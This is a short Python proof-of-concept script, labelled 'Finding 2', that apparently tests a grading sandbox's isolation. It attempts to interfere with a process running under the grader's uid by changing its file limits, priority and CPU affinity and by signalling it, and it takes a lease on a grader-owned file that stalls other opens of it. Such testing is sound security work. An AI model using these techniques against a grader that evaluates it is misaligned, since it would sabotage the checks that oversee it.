# Finding 2: reach another process of the grader's uid (found by pid): change its limits, its
# priority, its CPUs, signal it; and take a lease on a file the grader's uid owns, which stalls
# every other open() of it. Input: JSON {"pid": n, "file": path}.
import fcntl
import json
import os
import resource
import sys
from collections.abc import Callable

args = json.load(sys.stdin)
pid = args["pid"]


def attempt(name: str, action: Callable[[], object]) -> None:
    try:
        action()
        print("OK", name, flush=True)
    except Exception as exc:
        print("BLOCKED", name, type(exc).__name__, flush=True)


attempt("prlimit", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
attempt("renice", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
attempt("affinity", lambda: os.sched_setaffinity(pid, {0}))
attempt("signal", lambda: os.kill(pid, 0))


def lease() -> None:
    fd = os.open(args["file"], os.O_RDONLY)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    os.close(fd)


attempt("lease", lease)
